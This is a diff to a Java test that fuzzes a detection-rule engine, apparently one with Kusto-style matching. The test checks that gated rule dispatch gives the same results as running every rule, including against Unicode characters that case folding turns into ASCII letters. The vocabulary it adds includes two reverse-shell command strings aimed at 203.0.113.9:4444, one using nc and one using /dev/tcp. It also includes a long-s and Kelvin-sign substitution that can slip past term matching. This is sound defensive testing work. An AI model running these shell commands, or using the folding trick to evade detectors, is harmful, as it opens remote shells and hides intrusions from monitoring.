@@ -53,20 +53,29 @@ class GatedDispatchMatchesRunningEveryArmTest {
                 }
             }
         }
-        // 27 of 106 when written: arms opening with `in~`/`in`/`=~` on a column; has_any and ancestry arms have none
-        assertTrue(gates.size() >= 20, "only " + gates.size() + " of " + arms + " arms have a gate");
+        // 27 of 106 with equality gates only; 64 of 106 with term gates (has, has_any, has_all and or-chains)
+        assertTrue(gates.size() >= 50, "only " + gates.size() + " of " + arms + " arms have a gate");
 
-        // every gate key, and near misses of it, is a value the mutations put into gated columns
-        Set<String> vocabulary = new LinkedHashSet<>(List.of("", "node", "sh", "bash", "true", "NODE", "İ", "ı"));
+        // every gate key, and near misses of it, is a value the mutations put into gated columns; term keys also
+        // inside longer values, glued to other letters, and spelt with non-ASCII chars that fold to ASCII letters
+        Set<String> vocabulary = new LinkedHashSet<>(List.of("", "node", "sh", "bash", "true", "NODE", "İ", "ı",
+                "sh -c 'nc -e /bin/sh 203.0.113.9 4444'", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));
         Set<Integer> gatedColumns = new LinkedHashSet<>();
         for (ArmGate g : gates) {
-            gatedColumns.add(g.columnId());
-            for (String k : g.keys()) {
-                vocabulary.add(k);
-                vocabulary.add(k.toUpperCase(Locale.ROOT));
-                vocabulary.add(k + "x");
-                if (k.length() > 1) {
-                    vocabulary.add(k.substring(1));
+            for (ArmGate.Probe p : g.probes()) {
+                gatedColumns.add(p.columnId());
+                for (String k : p.keys()) {
+                    vocabulary.add(k);
+                    vocabulary.add(k.toUpperCase(Locale.ROOT));
+                    vocabulary.add(k + "x");
+                    if (k.length() > 1) {
+                        vocabulary.add(k.substring(1));
+                    }
+                    if (p.match() == ArmGate.Match.TERM) {
+                        vocabulary.add("/usr/bin/" + k + " -c x");
+                        vocabulary.add("a_" + k + ".b");
+                        vocabulary.add(foldTraps(k));
+                    }
                 }
             }
         }
@@ -98,6 +107,9 @@ class GatedDispatchMatchesRunningEveryArmTest {
                         } else if (pick < 4) { // the event's own value in another case
                             String v = e.getString(c);
                             e.set(c, v == null ? "" : rnd.nextBoolean() ? v.toUpperCase(Locale.ROOT) : v.toLowerCase(Locale.ROOT));
+                        } else if (pick == 4) { // the event's own value with chars that fold to ASCII letters
+                            String v = e.getString(c);
+                            e.set(c, v == null ? "ſh" : foldTraps(v));
                         } else {
                             e.set(c, words.get(rnd.nextInt(words.size())));
                         }
@@ -110,5 +122,13 @@ class GatedDispatchMatchesRunningEveryArmTest {
             }
         }
         assertTrue(alertsSeen >= 200, "the comparison must include matches: " + alertsSeen + " alerts on " + events);
+    }
+
+    /**
+     * The value with s, k and K spelt as the long s (ſ) and the Kelvin sign, which Kusto's case folding turns into
+     * s and k: `has "bash"` still finds "baſh", whose ASCII terms are "ba" and "h".
+     */
+    private static String foldTraps(String v) {
+        return v.replace('s', 'ſ').replace('k', '\u212A').replace('K', '\u212A');
     }
 }
